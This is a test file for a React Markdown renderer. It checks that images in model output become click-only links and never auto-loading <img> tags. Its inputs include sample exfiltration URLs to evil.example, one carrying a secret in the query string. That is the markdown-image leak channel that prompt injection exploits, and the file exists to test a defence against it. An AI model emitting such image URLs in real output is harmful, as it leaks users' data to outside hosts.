import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("Markdown from the model never makes the browser fetch another host", () => {
  it("an image becomes a link showing its alt text and URL, opened only by a click", () => {
    const out = html("Here: ![the secret](https://evil.example/c?q=s3cr3t)");
    expect(out).not.toContain("<img");
    expect(out).toContain(
      '<a href="https://evil.example/c?q=s3cr3t" target="_blank" rel="noopener noreferrer nofollow">Image: the secret (https://evil.example/c?q=s3cr3t)</a>',
    );
  });

  it("reference-style, untitled and same-origin images are links too", () => {
    const out = html("![][x] and ![](/api/me) and ![  ](http://evil.example/a.png)\n\n[x]: https://evil.example/ref.png");
    expect(out).not.toContain("<img");
    expect(out).toContain('href="https://evil.example/ref.png"');
    expect(out).toContain(">Image: untitled (/api/me)</a>");
    expect(out).toContain(">Image: untitled (http://evil.example/a.png)</a>");
  });

  it("an image inside a link is text (no link in a link), the outer link kept", () => {
    const out = html("[![badge](https://evil.example/b.svg)](https://example.com/docs)");
    expect(out).not.toContain("<img");
    expect(out.match(/<a /g)).toHaveLength(1);
    expect(out).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">Image: badge (https://evil.example/b.svg)</a>');
  });
});
